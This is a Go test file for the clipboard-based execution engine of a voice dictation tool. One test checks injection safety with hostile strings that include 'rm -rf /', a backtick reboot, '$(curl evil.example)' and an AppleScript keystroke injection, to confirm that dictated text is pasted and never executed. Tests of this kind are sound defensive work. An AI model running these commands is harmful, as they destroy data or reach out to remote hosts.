// ============================================================================
// voice2code - Voice Dictation for Developers
// ============================================================================
//
// Package:     engine
// Description: Tests for the execution engine
// Author:      Kiran Shivaraju
// Created:     2026-07-05
// License:     MIT
// ============================================================================

package engine

import (
	"errors"
	"strings"
	"sync"
	"testing"

	"github.com/kiranshivaraju/voice2code/internal/automation"
	"github.com/kiranshivaraju/voice2code/internal/clipboard"
)

// recordingInvoker captures every descriptor it is asked to perform and,
// when wired to a clipboard, the clipboard text visible at call time. It
// can be told to fail at the n-th call (1-based).
type recordingInvoker struct {
	mu        sync.Mutex
	calls     []automation.Descriptor
	clipSeen  []string
	clip      clipboard.Clipboard
	failAt    int
	failWith  error
}

func (r *recordingInvoker) Perform(d automation.Descriptor) error {
	r.mu.Lock()
	defer r.mu.Unlock()

	r.calls = append(r.calls, d)
	if r.clip != nil {
		text, _ := r.clip.ReadText()
		r.clipSeen = append(r.clipSeen, text)
	}
	if r.failAt > 0 && len(r.calls) == r.failAt {
		if r.failWith != nil {
			return r.failWith
		}
		return &automation.Error{Op: "fake", Err: errors.New("injected failure")}
	}
	return nil
}

func (r *recordingInvoker) descriptors() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make([]string, len(r.calls))
	for i, d := range r.calls {
		out[i] = d.String()
	}
	return out
}

func newTestEngine(initialClip string) (*Engine, *clipboard.Memory, *recordingInvoker) {
	clip := clipboard.NewMemory(initialClip)
	inv := &recordingInvoker{}
	return New(clip, inv, Config{}), clip, inv
}

func TestExecute_HelloNewlineWorld(t *testing.T) {
	eng, clip, inv := newTestEngine("X")
	inv.clip = clip

	err := eng.Execute([]Segment{
		Text("hello"),
		Command("newline"),
		Text("world"),
	})
	if err != nil {
		t.Fatalf("Execute() error = %v", err)
	}

	wantCalls := []string{"primary+v", "return", "primary+v"}
	gotCalls := inv.descriptors()
	if len(gotCalls) != len(wantCalls) {
		t.Fatalf("invoker calls = %v, want %v", gotCalls, wantCalls)
	}
	for i := range wantCalls {
		if gotCalls[i] != wantCalls[i] {
			t.Errorf("call %d = %q, want %q", i, gotCalls[i], wantCalls[i])
		}
	}

	// The focused application receives text via the clipboard channel:
	// at each paste the staged value must be on the clipboard.
	if inv.clipSeen[0] != "hello" {
		t.Errorf("clipboard at first paste = %q, want %q", inv.clipSeen[0], "hello")
	}
	if inv.clipSeen[2] != "world" {
		t.Errorf("clipboard at second paste = %q, want %q", inv.clipSeen[2], "world")
	}

	if clip.Text() != "X" {
		t.Errorf("clipboard after Execute() = %q, want %q", clip.Text(), "X")
	}
}

func TestExecute_WhitespaceTextIsNoOp(t *testing.T) {
	eng, clip, inv := newTestEngine("Y")

	if err := eng.Execute([]Segment{Text("   ")}); err != nil {
		t.Fatalf("Execute() error = %v", err)
	}

	if len(inv.calls) != 0 {
		t.Errorf("invoker calls = %d, want 0", len(inv.calls))
	}
	if clip.Text() != "Y" {
		t.Errorf("clipboard = %q, want %q", clip.Text(), "Y")
	}
}

func TestExecute_UnknownCommandIsNoOp(t *testing.T) {
	eng, clip, inv := newTestEngine("keep")

	if err := eng.Execute([]Segment{Command("bogus")}); err != nil {
		t.Fatalf("Execute() error = %v, want success", err)
	}

	if len(inv.calls) != 0 {
		t.Errorf("invoker calls = %d, want 0", len(inv.calls))
	}
	if clip.Text() != "keep" {
		t.Errorf("clipboard = %q, want %q", clip.Text(), "keep")
	}
}

func TestExecute_ClipboardInvariant(t *testing.T) {
	tests := []struct {
		name     string
		initial  string
		segments []Segment
	}{
		{"empty sequence", "original", nil},
		{"all commands", "original", []Segment{Command("undo"), Command("redo"), Command("tab")}},
		{"all whitespace text", "original", []Segment{Text(""), Text("  \t"), Text("\n")}},
		{"mixed", "original", []Segment{Text("a"), Command("newline"), Text("b"), Command("select-all")}},
		{"unknown commands", "original", []Segment{Command("nope"), Command("also-nope")}},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			eng, clip, _ := newTestEngine(tt.initial)

			if err := eng.Execute(tt.segments); err != nil {
				t.Fatalf("Execute() error = %v", err)
			}
			if clip.Text() != tt.initial {
				t.Errorf("clipboard = %q, want %q", clip.Text(), tt.initial)
			}
		})
	}
}

func TestExecute_ClipboardInvariantOnFailure(t *testing.T) {
	eng, clip, inv := newTestEngine("restore me")
	inv.failAt = 2

	err := eng.Execute([]Segment{
		Text("first"),
		Command("newline"),
		Text("never typed"),
	})
	if err == nil {
		t.Fatal("Execute() expected error")
	}

	if clip.Text() != "restore me" {
		t.Errorf("clipboard after failed pass = %q, want %q", clip.Text(), "restore me")
	}
}

func TestExecute_Ordering(t *testing.T) {
	eng, _, inv := newTestEngine("")

	segments := []Segment{
		Command("select-all"),
		Text("replacement"),
		Command("unknown-noise"),
		Text("  "),
		Command("newline"),
		Text("tail"),
	}
	if err := eng.Execute(segments); err != nil {
		t.Fatalf("Execute() error = %v", err)
	}

	// One call per non-no-op segment, in input order.
	want := []string{"primary+a", "primary+v", "return", "primary+v"}
	got := inv.descriptors()
	if len(got) != len(want) {
		t.Fatalf("invoker calls = %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("call %d = %q, want %q", i, got[i], want[i])
		}
	}
}

func TestExecute_NoOpSequenceIsIdempotent(t *testing.T) {
	eng, clip, inv := newTestEngine("Z")

	segments := []Segment{Text(""), Command("bogus"), Text(" \t "), Command("nope")}
	for i := 0; i < 3; i++ {
		if err := eng.Execute(segments); err != nil {
			t.Fatalf("Execute() pass %d error = %v", i, err)
		}
	}

	if len(inv.calls) != 0 {
		t.Errorf("invoker calls = %d, want 0", len(inv.calls))
	}
	if clip.Text() != "Z" {
		t.Errorf("clipboard = %q, want %q", clip.Text(), "Z")
	}
}

func TestExecute_EarlyStop(t *testing.T) {
	eng, _, inv := newTestEngine("")
	inv.failAt = 2 // fails on the newline command

	segments := []Segment{
		Text("a"),          // call 1
		Command("newline"), // call 2, fails (index 1)
		Text("b"),
		Command("tab"),
	}
	err := eng.Execute(segments)
	if err == nil {
		t.Fatal("Execute() expected error")
	}

	var execErr *ExecutionError
	if !errors.As(err, &execErr) {
		t.Fatalf("error type = %T, want *ExecutionError", err)
	}
	if execErr.Index != 1 {
		t.Errorf("ExecutionError.Index = %d, want 1", execErr.Index)
	}
	if execErr.Segment.Value != "newline" {
		t.Errorf("ExecutionError.Segment = %v, want the newline command", execErr.Segment)
	}

	if len(inv.calls) != 2 {
		t.Errorf("invoker calls = %d, want 2 (no calls after the failure)", len(inv.calls))
	}

	var autoErr *automation.Error
	if !errors.As(err, &autoErr) {
		t.Errorf("ExecutionError should wrap the automation error, got %v", err)
	}
}

func TestExecute_FailingClipboardStageStopsPass(t *testing.T) {
	eng, clip, inv := newTestEngine("before")
	stageErr := errors.New("clipboard busy")

	// First write succeeds (snapshot is a read), fail the staging write.
	clip.FailWrites(stageErr)

	err := eng.Execute([]Segment{Text("hello"), Command("newline")})
	if err == nil {
		t.Fatal("Execute() expected error")
	}

	var execErr *ExecutionError
	if !errors.As(err, &execErr) {
		t.Fatalf("error type = %T, want *ExecutionError", err)
	}
	if execErr.Index != 0 {
		t.Errorf("ExecutionError.Index = %d, want 0", execErr.Index)
	}
	if len(inv.calls) != 0 {
		t.Errorf("invoker calls = %d, want 0 (paste must not run without staged text)", len(inv.calls))
	}
}

func TestExecute_InjectionSafety(t *testing.T) {
	hostile := []string{
		`"; rm -rf / #`,
		"`reboot`",
		`$(curl evil.example)`,
		`'; tell application "System Events" to keystroke "x"'`,
		"text with\nnewline; and & pipes | here",
	}

	for _, text := range hostile {
		t.Run(text, func(t *testing.T) {
			eng, clip, inv := newTestEngine("safe")
			inv.clip = clip

			if err := eng.Execute([]Segment{Text(text)}); err != nil {
				t.Fatalf("Execute() error = %v", err)
			}

			// Only the fixed paste descriptor may reach the invoker.
			if len(inv.calls) != 1 {
				t.Fatalf("invoker calls = %d, want 1", len(inv.calls))
			}
			if inv.calls[0].String() != Paste.String() {
				t.Errorf("descriptor = %v, want the fixed paste descriptor", inv.calls[0])
			}

			// The text reaches the target through the clipboard only.
			if inv.clipSeen[0] != text {
				t.Errorf("clipboard at paste = %q, want %q", inv.clipSeen[0], text)
			}
			if clip.Text() != "safe" {
				t.Errorf("clipboard restored = %q, want %q", clip.Text(), "safe")
			}
		})
	}
}

func TestExecute_SnapshotReadFailureAborts(t *testing.T) {
	clip := clipboard.NewMemory("x")
	inv := &recordingInvoker{}
	eng := New(clip, inv, Config{})

	clip.FailReads(errors.New("no display"))

	err := eng.Execute([]Segment{Text("hello")})
	if err == nil {
		t.Fatal("Execute() expected error")
	}
	if len(inv.calls) != 0 {
		t.Errorf("invoker calls = %d, want 0 (nothing may run without a snapshot)", len(inv.calls))
	}
	if clip.Writes() != 0 {
		t.Errorf("clipboard writes = %d, want 0", clip.Writes())
	}
}

func TestExecute_RestoreFailureDoesNotMaskPassError(t *testing.T) {
	clip := clipboard.NewMemory("orig")
	restoreErr := errors.New("restore refused")

	// The staging write for segment 0 succeeds; the paste fails; the
	// deferred restore write fails as well. Both errors must surface.
	inv := &recordingInvoker{
		failAt:   1,
		failWith: &automation.Error{Op: "fake", Err: errors.New("focus lost")},
	}
	armed := &armingInvoker{inner: inv, clip: clip, failWrites: restoreErr}
	eng := New(clip, armed, Config{})

	err := eng.Execute([]Segment{Text("hello")})
	if err == nil {
		t.Fatal("Execute() expected error")
	}

	var execErr *ExecutionError
	if !errors.As(err, &execErr) {
		t.Fatalf("original ExecutionError must stay visible, got %v", err)
	}
	if execErr.Index != 0 {
		t.Errorf("ExecutionError.Index = %d, want 0", execErr.Index)
	}
	if !errors.Is(err, restoreErr) {
		t.Errorf("restore failure should be joined to the result, got %v", err)
	}
}

// armingInvoker delegates to inner and then makes every later clipboard
// write fail, simulating a clipboard that dies mid-pass.
type armingInvoker struct {
	inner      *recordingInvoker
	clip       *clipboard.Memory
	failWrites error
}

func (a *armingInvoker) Perform(d automation.Descriptor) error {
	err := a.inner.Perform(d)
	a.clip.FailWrites(a.failWrites)
	return err
}

func TestExecute_RestoreFailureAfterCleanPass(t *testing.T) {
	clip := clipboard.NewMemory("orig")
	inv := &recordingInvoker{}
	restoreErr := errors.New("write denied")
	armed := &armingInvoker{inner: inv, clip: clip, failWrites: restoreErr}
	eng := New(clip, armed, Config{})

	err := eng.Execute([]Segment{Text("hello")})
	if !errors.Is(err, restoreErr) {
		t.Errorf("Execute() = %v, want restore failure surfaced", err)
	}

	var execErr *ExecutionError
	if errors.As(err, &execErr) {
		t.Errorf("clean pass must not report an ExecutionError, got %v", execErr)
	}
}

func TestExecute_ClipboardAccessOrdering(t *testing.T) {
	eng, clip, _ := newTestEngine("start")

	if err := eng.Execute([]Segment{Text("a"), Text("b")}); err != nil {
		t.Fatalf("Execute() error = %v", err)
	}

	// Exactly one snapshot read, one staging write per text segment, one
	// final restore write.
	if clip.Reads() != 1 {
		t.Errorf("clipboard reads = %d, want 1", clip.Reads())
	}
	if clip.Writes() != 3 {
		t.Errorf("clipboard writes = %d, want 3", clip.Writes())
	}

	history := clip.History()
	want := []string{"a", "b", "start"}
	for i := range want {
		if history[i] != want[i] {
			t.Errorf("write %d = %q, want %q", i, history[i], want[i])
		}
	}
}

func TestExecute_TextUntrimmedWhenStaged(t *testing.T) {
	eng, clip, inv := newTestEngine("")
	inv.clip = clip

	if err := eng.Execute([]Segment{Text("  spaced out  ")}); err != nil {
		t.Fatalf("Execute() error = %v", err)
	}

	// Trimming decides no-op status only; the staged value keeps its spacing.
	if inv.clipSeen[0] != "  spaced out  " {
		t.Errorf("staged text = %q, want original spacing kept", inv.clipSeen[0])
	}
}

func TestExecute_MaxTextLengthTruncatesSilently(t *testing.T) {
	clip := clipboard.NewMemory("")
	inv := &recordingInvoker{clip: clip}
	eng := New(clip, inv, Config{MaxTextLength: 5})

	if err := eng.Execute([]Segment{Text("abcdefghij")}); err != nil {
		t.Fatalf("Execute() error = %v", err)
	}
	if inv.clipSeen[0] != "abcde" {
		t.Errorf("staged text = %q, want truncated to %q", inv.clipSeen[0], "abcde")
	}

	// Rune-safe truncation.
	if err := eng.Execute([]Segment{Text("äöüßé and more")}); err != nil {
		t.Fatalf("Execute() error = %v", err)
	}
	if inv.clipSeen[1] != "äöüßé" {
		t.Errorf("staged text = %q, want %q", inv.clipSeen[1], "äöüßé")
	}
}

func TestExecute_SerializesConcurrentPasses(t *testing.T) {
	clip := clipboard.NewMemory("base")
	inv := &recordingInvoker{clip: clip}
	eng := New(clip, inv, Config{})

	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			eng.Execute([]Segment{Text("one"), Command("newline"), Text("two")})
		}()
	}
	wg.Wait()

	// Every pass restored the snapshot it took; with serialized passes the
	// final content is the original.
	if clip.Text() != "base" {
		t.Errorf("clipboard = %q, want %q", clip.Text(), "base")
	}
	if len(inv.calls) != 8*3 {
		t.Errorf("invoker calls = %d, want %d", len(inv.calls), 8*3)
	}
	// Passes must not interleave: calls come in whole groups of
	// paste, newline, paste.
	for i := 0; i < len(inv.calls); i += 3 {
		if inv.calls[i].String() != "primary+v" ||
			inv.calls[i+1].String() != "return" ||
			inv.calls[i+2].String() != "primary+v" {
			t.Fatalf("interleaved pass detected at call %d: %v", i, inv.descriptors()[i:i+3])
		}
	}
}

func TestExecute_UnrecognizedKindFails(t *testing.T) {
	eng, clip, inv := newTestEngine("orig")

	err := eng.Execute([]Segment{{Kind: Kind(42), Value: "?"}})
	if err == nil {
		t.Fatal("Execute() expected error for unrecognized kind")
	}
	if len(inv.calls) != 0 {
		t.Errorf("invoker calls = %d, want 0", len(inv.calls))
	}
	if clip.Text() != "orig" {
		t.Errorf("clipboard = %q, want restored", clip.Text())
	}
}

func TestExecutionError_Message(t *testing.T) {
	err := &ExecutionError{
		Index:   3,
		Segment: Command("redo"),
		Err:     errors.New("no focused element"),
	}

	msg := err.Error()
	for _, want := range []string{"segment 3", "redo", "no focused element"} {
		if !strings.Contains(msg, want) {
			t.Errorf("Error() = %q, missing %q", msg, want)
		}
	}
}
